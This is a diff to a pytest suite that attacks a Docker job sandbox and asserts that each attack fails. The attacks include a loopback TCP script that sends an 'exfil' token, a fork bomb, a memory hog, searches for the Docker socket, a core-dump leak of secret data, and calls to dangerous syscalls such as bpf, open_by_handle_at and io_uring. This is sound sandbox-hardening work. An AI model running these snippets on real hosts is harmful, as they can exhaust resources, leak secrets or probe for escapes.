@@ -77,9 +77,13 @@ class Ran:
 
     @property
     def report(self) -> dict[str, Any]:
-        lines = [ln for ln in self.logs.splitlines() if ln.startswith(b"REPORT ")]
-        assert lines, f"the attack printed no report; logs end: {self.logs[-2000:]!r}"
-        return dict(json.loads(lines[-1][len(b"REPORT ") :]))
+        return parse_report(self.logs)
+
+
+def parse_report(logs: bytes) -> dict[str, Any]:
+    lines = [ln for ln in logs.splitlines() if ln.startswith(b"REPORT ")]
+    assert lines, f"the attack printed no report; logs end: {logs[-2000:]!r}"
+    return dict(json.loads(lines[-1][len(b"REPORT ") :]))
 
 
 @pytest.fixture(scope="module")
@@ -89,11 +93,16 @@ def runtime(docker_client: Any) -> DockerRuntime:
 
 @pytest.fixture
 def site(tmp_path: Path) -> dict[str, Path]:
+    return make_site(tmp_path)
+
+
+def make_site(root: Path) -> dict[str, Path]:
     """Host directories for one job: a dataset, a base model and the code, all left writable by
     anyone on the host side so that only the read-only mount can stop a write."""
-    data = tmp_path / "data-ds"
-    model = tmp_path / "model"
-    code = tmp_path / "code"
+    root.mkdir(exist_ok=True)
+    data = root / "data-ds"
+    model = root / "model"
+    code = root / "code"
     for d in (data, model, code):
         d.mkdir()
         d.chmod(0o777)
@@ -103,7 +112,7 @@ def site(tmp_path: Path) -> dict[str, Path]:
     (model / "config.json").chmod(0o666)
     (code / "helper.py").write_text("VALUE = 1\n")
     (code / "helper.py").chmod(0o666)
-    return {"data": data, "model": model, "code": code, "root": tmp_path}
+    return {"data": data, "model": model, "code": code, "root": root}
 
 
 def _tree_digest(root: Path) -> str:
@@ -212,9 +221,12 @@ class Listener:
     def __init__(self, kind: str) -> None:
         self.kind = kind
         self.received: list[bytes] = []
-        if kind == "tcp":
-            self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
-            self.sock.bind(("127.0.0.1", 0))
+        if kind in ("tcp", "tcp6"):
+            family, self.host = (
+                (socket.AF_INET, "127.0.0.1") if kind == "tcp" else (socket.AF_INET6, "::1")
+            )
+            self.sock = socket.socket(family, socket.SOCK_STREAM)
+            self.sock.bind((self.host, 0))
             self.sock.listen(8)
         elif kind == "udp":
             self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
@@ -261,34 +273,38 @@ class Listener:
 # -- network -------------------------------------------------------------------------------
 
 TCP_SCRIPT = """
-    s = socket.socket(); s.settimeout(3)
-    r = attempt(s.connect, ("127.0.0.1", int(os.environ["PORT"])))
+    host = os.environ["HOST"]
+    s = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET); s.settimeout(3)
+    r = attempt(s.connect, (host, int(os.environ["PORT"])))
     if r == "ok":
         s.sendall(b"exfil " + os.environ.get("TOKEN", "").encode())
     report(connect=r)
 """
 
 
-def test_tcp_to_the_hosts_loopback_reaches_nothing(runtime, runtime_image, site, test_labels):
-    lst = Listener("tcp")
+@pytest.mark.parametrize("kind", ["tcp", "tcp6"])
+def test_tcp_to_the_hosts_loopback_reaches_nothing(runtime, runtime_image, site, test_labels, kind):
+    lst = Listener(kind)
     token = secrets.token_hex(8)
     try:
-        env = {"PORT": str(lst.port), "TOKEN": token}
+        env = {"HOST": lst.host, "PORT": str(lst.port), "TOKEN": token}
         with attack(runtime, runtime_image, site, test_labels, TCP_SCRIPT, env=env) as ran:
             report = ran.report
     finally:
         got = lst.close()
-    assert report["connect"] == "ECONNREFUSED"  # its own loopback, where nothing listens
+    # IPv4: its own loopback, where nothing listens; IPv6: the container has no address at all.
+    assert report["connect"] == {"tcp": "ECONNREFUSED", "tcp6": "EADDRNOTAVAIL"}[kind]
     assert got == []
 
 
+@pytest.mark.parametrize("kind", ["tcp", "tcp6"])
 def test_tcp_control_the_same_script_connects_with_the_hosts_network(
-    docker_client, runtime_image, site, test_labels
+    docker_client, runtime_image, site, test_labels, kind
 ):
-    lst = Listener("tcp")
+    lst = Listener(kind)
     token = secrets.token_hex(8)
     try:
-        env = {"PORT": str(lst.port), "TOKEN": token}
+        env = {"HOST": lst.host, "PORT": str(lst.port), "TOKEN": token}
         report = control_run(docker_client, runtime_image, site, test_labels, TCP_SCRIPT, env=env)
     finally:
         got = lst.close()
@@ -456,8 +472,12 @@ def test_proc_1_root_and_other_proc_roots_do_not_reach_the_host(
 def test_no_docker_socket_nor_any_socket_in_the_filesystem(
     runtime, runtime_image, site, test_labels
 ):
+    # The engine's socket is there on the host: the job must not find it (or any socket).
+    assert stat.S_ISSOCK(os.stat("/var/run/docker.sock").st_mode)
     script = """
     import stat
+    # The search's self-check: a socket of its own, which it must find.
+    probe = socket.socket(socket.AF_UNIX); probe.bind("/tmp/self-check.sock")
     sockets = []
     for top, dirs, files in os.walk("/"):
         if top in ("/proc", "/sys"):
@@ -471,12 +491,14 @@ def test_no_docker_socket_nor_any_socket_in_the_filesystem(
                 pass
     known = {p: os.path.lexists(p) for p in ("/var/run/docker.sock", "/run/docker.sock",
              "/run/containerd/containerd.sock")}
-    report(sockets=sockets, known=known)
+    via_proc = attempt(os.stat, "/proc/1/root/var/run/docker.sock")
+    report(sockets=sockets, known=known, via_proc=via_proc)
     """
     with attack(runtime, runtime_image, site, test_labels, script) as ran:
         report = ran.report
-    assert report["sockets"] == []
-    assert not any(report["known"].values())
+    assert report["sockets"] == ["/tmp/self-check.sock"]
+    assert report["known"] == dict.fromkeys(report["known"], False) and len(report["known"]) == 3
+    assert report["via_proc"] == "ENOENT"
 
 
 def test_read_only_mounts_and_root_cannot_be_written(runtime, runtime_image, site, test_labels):
@@ -518,8 +540,13 @@ def test_only_output_tmp_and_shm_are_writable(runtime, runtime_image, site, test
     for line in open("/proc/self/mountinfo"):
         left, _, right = line.partition(" - ")
         mounts.append((left.split()[4], left.split()[5]))
-    writable = []
+    writable, files = [], {}
     for path, opts in mounts:
+        if os.path.isfile(path):
+            # The engine binds /etc/hosts, /etc/hostname and /etc/resolv.conf from its own
+            # disk: appending to one would fill the host's disk past every cap.
+            files[path] = attempt(lambda p: os.close(os.open(p, os.O_WRONLY | os.O_APPEND)), path)
+            continue
         probe = os.path.join(path, f".probe-{os.getpid()}")
         try:
             fd = os.open(probe, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)
@@ -527,12 +554,15 @@ def test_only_output_tmp_and_shm_are_writable(runtime, runtime_image, site, test
             continue
         os.close(fd); os.unlink(probe)
         writable.append((path, sorted(set(opts.split(",")) & {"nosuid", "nodev", "noexec"})))
-    report(writable=sorted(writable))
+    report(writable=sorted(writable), files=files, n_mounts=len(mounts))
     """
     with attack(runtime, runtime_image, site, test_labels, script) as ran:
         report = ran.report
     flags = ["nodev", "noexec", "nosuid"]
     assert report["writable"] == [["/dev/shm", flags], ["/output", flags], ["/tmp", flags]]
+    assert report["n_mounts"] > 10  # the probe saw the whole table, not a stub
+    assert set(report["files"]) >= {"/etc/hosts", "/etc/hostname", "/etc/resolv.conf"}
+    assert set(report["files"].values()) <= {"EACCES", "EROFS"}, report["files"]
 
 
 # -- links and special files planted in /output --------------------------------------------
@@ -820,16 +850,19 @@ def test_filling_output_hits_enospc_and_stays_in_memory(runtime, runtime_image, 
         status = ran.status
         mount = next(m for m in _mounts.mount_table() if m.path == ran.output)
         size = (ran.output / "fill").stat().st_size
-    assert r["err"] == "ENOSPC" and r["written"] <= cap
-    assert status.state is RunState.EXITED and status.exit_code == 1
+    assert r["err"] == "ENOSPC" and cap - 2 * MiB <= r["written"] <= cap
+    assert status.state is RunState.EXITED and status.reason == "exited with code 1"
     assert mount.fstype == "tmpfs" and size <= cap  # the bytes went to capped memory, not disk
+    assert not os.path.lexists(ran.output)  # and they are gone with the run
+    assert all(m.path != ran.output for m in _mounts.mount_table())
 
 
-def test_filling_tmp_hits_enospc(runtime, runtime_image, site, test_labels):
+@pytest.mark.parametrize("where", ["/tmp", "/dev/shm"])
+def test_filling_tmp_or_shm_hits_enospc(runtime, runtime_image, site, test_labels, where):
     script = """
     written = 0
     try:
-        with open("/tmp/fill", "wb") as f:
+        with open(os.environ["WHERE"] + "/fill", "wb") as f:
             while True:
                 f.write(b"\\0" * (1 << 20)); f.flush()
                 written += 1 << 20
@@ -837,10 +870,16 @@ def test_filling_tmp_hits_enospc(runtime, runtime_image, site, test_labels):
         report(err=errno.errorcode[e.errno], written=written)
         sys.exit(1)
     """
-    with attack(runtime, runtime_image, site, test_labels, script, tmp_bytes=8 * MiB) as ran:
+    # /dev/shm keeps the engine's 64 MiB cap; /tmp is given 8 MiB.
+    cap = 8 * MiB if where == "/tmp" else 64 * MiB
+    env = {"WHERE": where}
+    with attack(
+        runtime, runtime_image, site, test_labels, script, tmp_bytes=8 * MiB, env=env
+    ) as ran:
         r = ran.report
-        assert ran.status.exit_code == 1
-    assert r["err"] == "ENOSPC" and r["written"] <= 8 * MiB
+        status = ran.status
+    assert r["err"] == "ENOSPC" and cap - 2 * MiB <= r["written"] <= cap
+    assert status.state is RunState.EXITED and status.reason == "exited with code 1"
 
 
 def test_endless_loop_is_killed_at_the_timeout(
@@ -908,3 +947,251 @@ def test_engine_reports_the_promised_configuration(
     assert hc["IpcMode"] == "private" and not hc.get("DeviceRequests")
     binds = {m["Destination"]: m["RW"] for m in attrs["Mounts"]}
     assert binds == {"/data/ds": False, "/model/base": False, "/code": False, "/output": True}
+    assert attrs["Config"]["Image"] == runtime_image  # created from the ID, not a tag
+    assert hc["Runtime"] == "runc" and hc["CgroupnsMode"] == "private"
+    assert hc["PidMode"] == "" and hc["UTSMode"] == "" and hc["UsernsMode"] == ""
+    assert not hc.get("Devices") and not hc.get("Binds") and not hc.get("VolumesFrom")
+    assert not hc.get("ExtraHosts") and not hc.get("Sysctls")
+    assert hc["NanoCpus"] == 10**9 and hc["ShmSize"] == 64 * MiB and hc["OomScoreAdj"] == 1000
+    assert hc["Ulimits"] == [{"Name": "core", "Soft": 0, "Hard": 0}]
+    assert hc["Tmpfs"]["/tmp"] == f"rw,noexec,nosuid,nodev,size={16 * MiB},mode=1777"
+    assert hc["LogConfig"] == {
+        "Type": "json-file",
+        "Config": {"max-file": "1", "max-size": str(4 * MiB)},
+    }
+
+
+# -- more channels ---------------------------------------------------------------------------
+
+
+def test_a_crash_dumps_no_core_with_the_data(
+    runtime, runtime_image, site, test_labels, docker_client
+):
+    # A crashing job's memory holds the data; the host's core_pattern ("core" here, relative to
+    # the job's working directory) would write it out. Control first: without the core limit
+    # the same crash leaves a core holding the secret in /output.
+    script = """
+    import resource
+    held = open("/data/ds/secret.txt", "rb").read() * 64
+    os.chdir("/output")
+    try:
+        resource.setrlimit(resource.RLIMIT_CORE, (-1, -1))
+        raise_limit = "ok"
+    except (OSError, ValueError) as e:
+        raise_limit = type(e).__name__
+    report(core=resource.getrlimit(resource.RLIMIT_CORE), raise_limit=raise_limit)
+    import ctypes
+    ctypes.string_at(0)  # SIGSEGV
+    """
+    pattern = Path("/proc/sys/kernel/core_pattern").read_text().strip()
+    assert not pattern.startswith("|"), f"this host pipes cores to {pattern!r}: see the report"
+    from docker.types import Mount, Ulimit
+
+    with _mounts.tmpfs(
+        site["root"] / "control-out", size_bytes=64 * MiB, owner=(10001, 10001)
+    ) as control_out:
+        (site["code"] / "attack.py").write_text(PRELUDE + textwrap.dedent(script))
+        c = docker_client.containers.create(
+            runtime_image,
+            entrypoint=["python3", "/code/attack.py"],
+            network_mode="none",
+            user=JOB_USER,
+            ulimits=[Ulimit(name="core", soft=-1, hard=-1)],
+            mounts=[
+                Mount("/code", str(site["code"]), type="bind", read_only=True),
+                Mount("/data/ds", str(site["data"]), type="bind", read_only=True),
+                Mount("/output", str(control_out), type="bind"),
+            ],
+            labels=test_labels,
+        )
+        try:
+            c.start()
+            assert c.wait(timeout=60)["StatusCode"] == 139  # SIGSEGV, core dumped
+        finally:
+            c.remove(force=True)
+        cores = [p for p in control_out.iterdir() if p.name.startswith("core")]
+        assert cores and SECRET in cores[0].read_bytes()
+
+    with attack(runtime, runtime_image, site, test_labels, script) as ran:
+        r = ran.report
+        status = ran.status
+        left = sorted(p.name for p in ran.output.iterdir())
+    assert r == {"core": [0, 0], "raise_limit": "ValueError"}
+    assert status.state is RunState.EXITED and status.exit_code == 139
+    assert status.reason == "exited with code 139"
+    assert left == []
+
+
+# Syscall numbers: x86_64, then the generic table that aarch64 uses.
+_SYSCALLS = {
+    "x86_64": {
+        "bpf": 321, "perf_event_open": 298, "add_key": 248, "keyctl": 250, "kexec_load": 246,
+        "init_module": 175, "userfaultfd": 323, "open_by_handle_at": 304, "setns": 308,
+        "pivot_root": 155, "syslog": 103, "swapon": 167, "reboot": 169, "acct": 163,
+        "fsopen": 430, "open_tree": 428, "move_mount": 429,
+    },
+    "aarch64": {
+        "bpf": 280, "perf_event_open": 241, "add_key": 217, "keyctl": 219, "kexec_load": 104,
+        "init_module": 105, "userfaultfd": 282, "open_by_handle_at": 265, "setns": 268,
+        "pivot_root": 41, "syslog": 116, "swapon": 224, "reboot": 142, "acct": 89,
+        "fsopen": 430, "open_tree": 428, "move_mount": 429,
+    },
+}  # fmt: skip
+
+
+def test_kernel_attack_surface_syscalls_are_refused(runtime, runtime_image, site, test_labels):
+    # bpf, perf events, keyrings, module and kexec loading, userfaultfd (race helper),
+    # open_by_handle_at (the "shocker" escape), namespace and mount APIs, the kernel log.
+    table = _SYSCALLS[os.uname().machine]
+    script = """
+    import ctypes
+    libc = ctypes.CDLL(None, use_errno=True)
+    out = {}
+    for name, nr in json.loads(os.environ["SYSCALLS"]).items():
+        ctypes.set_errno(0)
+        rc = libc.syscall(nr, 0, 0, 0, 0, 0)
+        out[name] = "ok" if rc >= 0 else errno.errorcode[ctypes.get_errno()]
+    report(**out)
+    """
+    env = {"SYSCALLS": json.dumps(table)}
+    with attack(runtime, runtime_image, site, test_labels, script, env=env) as ran:
+        # EPERM before any argument is looked at: refused by seccomp or the missing capability.
+        assert ran.report == dict.fromkeys(table, "EPERM")
+
+
+def test_io_uring_is_refused(runtime, runtime_image, site, test_labels, docker_client, request):
+    # io_uring is a large kernel attack surface that seccomp cannot filter op by op. Docker
+    # Engine 25 and later leave it out of the default seccomp profile; older engines allow it,
+    # and then only the host's kernel.io_uring_disabled (Linux 6.6+) refuses it. Where neither
+    # holds this is a known gap of the site, recorded as a strict xfail (see the report).
+    engine_major = int(docker_client.version()["Version"].split(".")[0])
+    knob = Path("/proc/sys/kernel/io_uring_disabled")
+    host_disabled = knob.exists() and knob.read_text().strip() in {"1", "2"}
+    if engine_major < 25 and not host_disabled:
+        request.applymarker(
+            pytest.mark.xfail(
+                strict=True,
+                reason=f"Docker {engine_major}'s default seccomp profile allows io_uring and the "
+                "host has not set kernel.io_uring_disabled",
+            )
+        )
+    table = {"x86_64": 425, "aarch64": 425}
+    script = """
+    import ctypes
+    libc = ctypes.CDLL(None, use_errno=True)
+    params = ctypes.create_string_buffer(120)  # struct io_uring_params
+    fd = libc.syscall(int(os.environ["NR"]), 4, params)
+    report(setup="ok" if fd >= 0 else errno.errorcode[ctypes.get_errno()])
+    """
+    env = {"NR": str(table[os.uname().machine])}
+    with attack(runtime, runtime_image, site, test_labels, script, env=env) as ran:
+        assert ran.report["setup"] in {"EPERM", "ENOSYS"}
+
+
+def test_environment_holds_only_the_image_and_the_spec(
+    runtime, runtime_image, site, test_labels, docker_client, monkeypatch
+):
+    monkeypatch.setenv("SEALROOM_AGENT_SECRET", secrets.token_hex(8))  # the agent's own env
+    script = """
+    raw = open("/proc/self/environ", "rb").read().split(b"\\0")
+    report(env=dict(kv.decode().split("=", 1) for kv in raw if kv))
+    """
+    with attack(runtime, runtime_image, site, test_labels, script, env={"JOB_X": "1"}) as ran:
+        env = ran.report["env"]
+    image_env = dict(
+        kv.split("=", 1) for kv in docker_client.images.get(runtime_image).attrs["Config"]["Env"]
+    )
+    assert env == {**image_env, "JOB_X": "1", "HOSTNAME": "sealroom-job"}
+
+
+# -- abuse that never ends by itself, and neighbours --------------------------------------------
+
+ENDLESS_FORK_BOMB = """
+    print("bombing", flush=True)
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            time.sleep(0.01)
+"""
+
+
+def test_endless_fork_bomb_is_killed_at_the_timeout_naming_the_pids_limit(
+    runtime, runtime_image, site, test_labels
+):
+    with attack(
+        runtime, runtime_image, site, test_labels, ENDLESS_FORK_BOMB, pids=32, timeout_s=3
+    ) as ran:
+        status = ran.status
+        assert b"bombing" in ran.logs
+    assert status.state is RunState.KILLED_TIMEOUT and status.exit_code == 137
+    assert status.reason.startswith("ran past its timeout of 3 s and was killed; it had reached")
+    assert "limit of 32 processes" in status.reason
+
+
+def test_abusive_neighbours_leave_a_concurrent_job_and_the_host_unaffected(
+    runtime, runtime_image, tmp_path, test_labels, docker_client
+):
+    bystander = """
+    import hashlib
+    h = open("/data/ds/secret.txt", "rb").read()
+    for _ in range(20000):
+        h = hashlib.sha256(h).digest()
+    with open("/output/result", "w") as f:
+        f.write(h.hex())
+    report(digest=h.hex())
+    """
+    memory_hog = """
+    hog = []
+    while True:
+        hog.append(b"\\x01" * (8 << 20))
+    """
+    spinner = """
+    import multiprocessing
+    for _ in range(3):
+        multiprocessing.Process(target=lambda: [0 for _ in iter(int, 1)]).start()
+    while True:
+        pass
+    """
+    jobs = {
+        "bomb": (ENDLESS_FORK_BOMB, {"pids": 32, "timeout_s": 8}),
+        "hog": (memory_hog, {"memory_bytes": 96 * MiB, "timeout_s": 30}),
+        "spinner": (spinner, {"timeout_s": 8}),
+        "bystander": (bystander, {"timeout_s": 120}),
+    }
+    results: dict[str, Any] = {}
+
+    def run(name: str) -> None:
+        script, limits = jobs[name]
+        s = make_site(tmp_path / name)
+        try:
+            with attack(runtime, runtime_image, s, test_labels, script, **limits) as ran:
+                written = (ran.output / "result").read_text() if name == "bystander" else None
+                results[name] = (ran.status, ran.logs, written)
+        except BaseException as e:  # reported by the main thread
+            results[name] = e
+
+    threads = [threading.Thread(target=run, args=(n,)) for n in jobs]
+    for t in threads:
+        t.start()
+    # While they run, the host forks and the engine (the agent's link to its jobs) answers.
+    host_ok = []
+    while any(t.is_alive() for t in threads[:3]):
+        host_ok.append(subprocess.run(["true"], check=False).returncode == 0)
+        host_ok.append(docker_client.ping() is True)
+        time.sleep(0.5)
+    for t in threads:
+        t.join(180)
+    for name, got in results.items():
+        assert not isinstance(got, BaseException), (name, got)
+    assert host_ok and all(host_ok)
+    assert results["bomb"][0].state is RunState.KILLED_TIMEOUT
+    assert "limit of 32 processes" in results["bomb"][0].reason
+    assert results["hog"][0].state is RunState.KILLED_OOM
+    assert results["spinner"][0].state is RunState.KILLED_TIMEOUT
+    status, logs, written = results["bystander"]
+    expect = SECRET
+    for _ in range(20000):
+        expect = hashlib.sha256(expect).digest()
+    assert status.state is RunState.EXITED and status.exit_code == 0
+    assert parse_report(logs)["digest"] == expect.hex() == written
